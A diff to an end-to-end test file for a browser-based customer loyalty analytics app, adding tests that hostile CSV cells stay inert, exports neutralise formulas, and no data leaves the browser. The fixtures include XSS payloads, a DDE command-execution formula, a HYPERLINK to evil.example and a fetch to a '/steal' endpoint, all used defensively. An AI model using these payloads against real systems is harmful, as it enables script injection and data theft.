@@ -1,7 +1,7 @@
 // End-to-end tests of the built app (dist/) in headless Chromium: real file input, real worker.
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { readFile } from 'node:fs/promises';
+import { readFile, readdir } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { chromium } from 'playwright-core';
@@ -31,19 +31,26 @@ after(async () => {
   await new Promise((resolve) => (server ? server.close(resolve) : resolve()));
 });
 
+/** Every Content-Security-Policy violation reported in any test (the last test asserts none). */
+const cspViolations = [];
+
 /** Opens the app in a fresh English-language context; collects requests and page errors. */
-async function openApp(locale = 'en-US') {
+async function openApp(locale = 'en-US', { hash = '', expectViolations = false } = {}) {
   const context = await browser.newContext({ locale, acceptDownloads: true });
   const page = await context.newPage();
   const requests = [];
   const errors = [];
+  const violations = [];
   page.on('request', (r) => requests.push(r.url()));
   page.on('pageerror', (e) => errors.push(String(e)));
-  await page.goto(base);
+  page.on('console', (m) => {
+    if (/Content.Security.Policy/i.test(m.text())) (expectViolations ? violations : cspViolations).push(m.text());
+  });
+  await page.goto(base + hash);
   await page.getByTestId('file-input').waitFor({ state: 'attached', timeout: TIMEOUT });
   // Every static file (the worker's wasm included) has loaded once the worker says it is ready.
   await page.locator('[data-worker="ready"]').waitFor({ state: 'attached', timeout: TIMEOUT });
-  return { context, page, requests, errors };
+  return { context, page, requests, errors, violations };
 }
 
 /** Waits until the element with `testid` shows exactly `want`; fails with what it showed instead. */
@@ -59,6 +66,27 @@ async function expectText(page, testid, want) {
     const error = await page.evaluate(() => document.querySelector('[data-testid="error-message"]')?.textContent ?? '');
     assert.fail(`${testid}: expected '${want}', got '${got}'${error ? ` (error shown: ${error})` : ''}`);
   }
+}
+
+/** RFC 4180 CSV into rows of fields (quoted fields, doubled quotes, CRLF or LF). */
+function parseCsv(text) {
+  const rows = [];
+  let row = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') { row.push(field); field = ''; }
+    else if (c === '\n' || c === '\r') {
+      if (c === '\r' && text[i + 1] === '\n') i++;
+      row.push(field); rows.push(row); row = []; field = '';
+    } else field += c;
+  }
+  if (field !== '' || row.length) { row.push(field); rows.push(row); }
+  return rows;
 }
 
 async function upload(page, name) {
@@ -409,7 +437,7 @@ test('a survey file of its own joins the transactions: NPS per pyramid tier, com
   const svg = await readFile(await svgFile.path(), 'utf8');
   assert.match(svg, /^<\?xml[^>]*>\s*<svg[^>]*xmlns="http:\/\/www.w3.org\/2000\/svg"/);
   assert.match(svg, /超级米粉 Super fans/);
-  assert.match(svg, /style="[^"]*fill:/);
+  assert.match(svg, /<text[^>]* font-family="[^"]+"/, 'the page styles are inlined as attributes');
   const [pngFile] = await Promise.all([page.waitForEvent('download'), page.getByTestId('ov-export-pyramid-png').click()]);
   assert.equal(pngFile.suggestedFilename(), 'loyalty-pyramid.png');
   const png = await readFile(await pngFile.path());
@@ -501,4 +529,201 @@ test('CLV: BG/NBD, Pareto/NBD and Gamma-Gamma fitted in the browser on CDNOW, va
   assert.deepEqual(requests.slice(before).filter((u) => !u.startsWith('blob:')), []);
   assert.deepEqual(errors, []);
   await context.close();
+});
+
+test('hostile cell contents are text everywhere, and exported CSV cannot run formulas', async () => {
+  const { context, page, errors } = await openApp();
+  const dialogs = [];
+  page.on('dialog', async (d) => {
+    dialogs.push(d.message());
+    await d.dismiss();
+  });
+  await upload(page, 'hostile.csv');
+  await expectText(page, 'ov-customers', '6');
+  const literal = ['<img src=x onerror=alert(1)>', '"><script>alert(2)</script>', '<svg onload=alert(3)>'];
+  const seen = new Set();
+  for (const tab of ['overview', 'data', 'segments', 'lifecycle', 'nps', 'pyramid', 'clv']) {
+    await page.getByTestId(`tab-${tab}`).click();
+    await page.waitForTimeout(200);
+    if (tab === 'segments') {
+      await page.getByTestId('all-customers').click();
+      await expectText(page, 'list-total', '6');
+    }
+    const text = await page.evaluate(() => document.body.innerText + [...document.querySelectorAll('title')].map((t) => t.textContent).join(' '));
+    for (const l of literal) if (text.includes(l)) seen.add(l);
+    // Markup from the file never became elements or handlers.
+    const injected = await page.evaluate(() => ({
+      handlers: document.querySelectorAll('[onerror], [onload], [onclick]').length,
+      images: [...document.querySelectorAll('img')].filter((i) => i.getAttribute('src') === 'x').length,
+      scripts: [...document.querySelectorAll('script')].filter((s) => /alert/.test(s.textContent)).length,
+      bold: document.querySelectorAll('main b').length,
+    }));
+    assert.deepEqual(injected, { handlers: 0, images: 0, scripts: 0, bold: 0 }, `on the ${tab} page`);
+  }
+  assert.deepEqual([...seen].sort(), [...literal].sort(), 'every hostile value is shown as the text it is');
+  // The customer list exported as CSV: formula-looking ids get a leading ', plain text stays.
+  await page.getByTestId('tab-segments').click();
+  await page.getByTestId('all-customers').click();
+  await expectText(page, 'list-total', '6');
+  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-customers').click()]);
+  const csv = (await readFile(await download.path(), 'utf8')).replace(/^\uFEFF/, '');
+  const rows = parseCsv(csv);
+  const ids = rows.slice(1).map((r) => r[0]);
+  assert.deepEqual(ids.sort(), [
+    '"><script>alert(2)</script>',
+    "'+cmd|' /C calc'!A0",
+    "'-2+3",
+    "'=HYPERLINK(\"http://evil.example/\",\"click\")",
+    "'@SUM(A1:A9)",
+    '<img src=x onerror=alert(1)>',
+  ].sort());
+  // No field of any row starts a formula; numbers are plain numbers.
+  for (const row of rows) {
+    for (const field of row) assert.ok(!/^[=+@\t\r-]/.test(field) || /^-?\d+(\.\d+)?$/.test(field), `exported field ${JSON.stringify(field)}`);
+  }
+  assert.deepEqual(dialogs, []);
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('privacy: the policy is in force; after the upload nothing is requested, nothing goes elsewhere, nothing is stored', async () => {
+  const { context, page, requests, errors } = await openApp();
+  const all = [];
+  context.on('request', (r) => all.push(r.url()));
+  const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content ?? '');
+  for (const d of ["default-src 'none'", "connect-src 'self'", "style-src 'self'", "base-uri 'none'", "form-action 'none'"]) assert.ok(policy.includes(d), `${d} in ${policy}`);
+  assert.doesNotMatch(policy, /'unsafe-inline'|'unsafe-eval'|https?:|\*/);
+  // Loaded means: the service worker holds the app's files for offline use.
+  await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
+  const served = server.log.length;
+  const before = requests.length;
+  const allBefore = all.length;
+
+  await upload(page, 'cdnow/CDNOW_sample.txt');
+  await expectText(page, 'ov-customers', '2,357');
+  await page.getByTestId('survey-input').setInputFiles(fixture('survey_cdnow_gbk.csv'));
+  await expectText(page, 'nps-responses', '625');
+  const save = async (testid) => {
+    const [d] = await Promise.all([page.waitForEvent('download'), page.getByTestId(testid).click()]);
+    assert.ok((await readFile(await d.path())).length > 0, testid);
+  };
+  // Every page and every kind of export.
+  await page.getByTestId('tab-overview').click();
+  await save('ov-export-pyramid-svg');
+  await save('ov-export-pyramid-png');
+  await page.getByTestId('tab-data').click();
+  await page.getByTestId('data-survey').click();
+  await save('download-rejected');
+  await page.getByTestId('tab-segments').click();
+  await page.getByTestId('segment-bar-0').click();
+  await expectText(page, 'list-total', '533');
+  for (const format of ['utf8', 'gbk', 'xlsx']) {
+    await page.getByTestId('export-format').selectOption(format);
+    await save('export-customers');
+  }
+  await page.getByTestId('tab-lifecycle').click();
+  await page.getByTestId('transition-matrix').waitFor({ timeout: TIMEOUT });
+  await page.getByTestId('tab-nps').click();
+  await page.getByTestId('nps-trend').waitFor({ timeout: TIMEOUT });
+  await page.getByTestId('tab-pyramid').click();
+  await page.getByTestId('pyramid-tier-0').click();
+  await save('export-customers');
+  await page.getByTestId('tab-clv').click();
+  await page.getByTestId('clv-run').click();
+  await page.getByTestId('clv-models').waitFor({ timeout: 120_000 });
+  await save('clv-export');
+  await page.getByTestId('tab-overview').click();
+  await page.getByTestId('clear').click();
+  await page.getByTestId('file-input').waitFor({ state: 'attached' });
+
+  // The browser's own request log and the server's: nothing after the upload but in-page blob: URLs.
+  assert.deepEqual(requests.slice(before).filter((u) => !u.startsWith('blob:')), []);
+  assert.deepEqual(all.slice(allBefore).filter((u) => !u.startsWith('blob:')), []);
+  assert.deepEqual(server.log.slice(served), []);
+  assert.deepEqual([...requests, ...all].filter((u) => !u.startsWith(base) && !u.startsWith('blob:')), [], 'no request to another origin, ever');
+
+  // Nothing about customers is stored: one setting in localStorage, no cookies, no IndexedDB, and
+  // the only cache is the service worker's copy of the app's own files.
+  const dist = new Set(['', ...(await readdir(join(repo, 'dist')))]);
+  const stored = await page.evaluate(async () => ({
+    local: Object.keys(localStorage),
+    session: Object.keys(sessionStorage),
+    cookie: document.cookie,
+    idb: (await indexedDB.databases()).map((d) => d.name),
+    cached: (await Promise.all((await caches.keys()).map(async (k) => (await (await caches.open(k)).keys()).map((r) => r.url)))).flat(),
+  }));
+  assert.ok(stored.local.every((k) => k === 'loyalty-lens.lang'), `localStorage: ${stored.local}`);
+  assert.deepEqual(stored.session, []);
+  assert.equal(stored.cookie, '');
+  assert.deepEqual(stored.idb, []);
+  assert.deepEqual(await context.cookies(), []);
+  assert.ok(stored.cached.length > 0, 'the app is cached for offline use');
+  for (const url of stored.cached) {
+    assert.ok(url.startsWith(base) && dist.has(url.slice(base.length)), `cached: ${url}`);
+  }
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('privacy: a request to another origin is refused by the policy', async () => {
+  const { context, page, violations } = await openApp('en-US', { expectViolations: true });
+  const result = await page.evaluate(async () => {
+    const seen = [];
+    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
+    const fetched = await fetch('http://127.0.0.2:9/steal?id=1').then(() => 'sent', (e) => e.name);
+    const img = await new Promise((resolve) => {
+      const i = new Image();
+      i.onload = () => resolve('loaded');
+      i.onerror = () => resolve('blocked');
+      i.src = 'http://127.0.0.2:9/pixel.gif';
+    });
+    await new Promise((r) => setTimeout(r, 100));
+    return { fetched, img, seen };
+  });
+  assert.equal(result.fetched, 'TypeError');
+  assert.equal(result.img, 'blocked');
+  assert.ok(result.seen.includes('connect-src') && result.seen.includes('img-src'), JSON.stringify(result.seen));
+  assert.ok(violations.length >= 2, 'the browser reported the refusals');
+  await context.close();
+});
+
+test('works offline after the first load', async () => {
+  const { context, page } = await openApp();
+  await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
+  await context.setOffline(true);
+  const served = server.log.length;
+  await page.reload();
+  await page.locator('[data-worker="ready"]').waitFor({ state: 'attached', timeout: TIMEOUT });
+  assert.equal(await page.evaluate(() => Boolean(navigator.serviceWorker.controller)), true, 'the page came from the service worker');
+  await upload(page, 'gbk_orders.csv');
+  await expectText(page, 'customers', '4');
+  assert.deepEqual(server.log.slice(served), [], 'offline: the server saw nothing');
+  await context.close();
+});
+
+test('a crashed worker is replaced and the app stays usable; a crash on the page shows a way back', async () => {
+  {
+    const { context, page } = await openApp('en-US', { hash: '#crash-test=worker' });
+    await page.getByTestId('error').waitFor({ timeout: TIMEOUT });
+    assert.match(await page.getByTestId('error-message').textContent(), /internal error and was restarted/);
+    await page.locator('[data-worker="ready"]').waitFor({ state: 'attached', timeout: TIMEOUT });
+    await upload(page, 'gbk_orders.csv');
+    await expectText(page, 'customers', '4');
+    await context.close();
+  }
+  {
+    const { context, page } = await openApp('zh-CN', { hash: '#crash-test=ui' });
+    await page.getByTestId('crash').waitFor({ timeout: TIMEOUT });
+    assert.match(await page.getByTestId('crash').textContent(), /页面遇到内部错误.*crash requested by #crash-test=ui/s);
+    await page.getByTestId('crash-reload').click();
+    await page.locator('[data-worker="ready"]').waitFor({ state: 'attached', timeout: TIMEOUT });
+    assert.equal(await page.getByTestId('crash').count(), 0);
+    await upload(page, 'gbk_orders.csv');
+    await expectText(page, 'customers', '4');
+    await context.close();
+  }
+});
+
+test('no Content-Security-Policy violation in any test above', () => {
+  assert.deepEqual(cspViolations, []);
 });
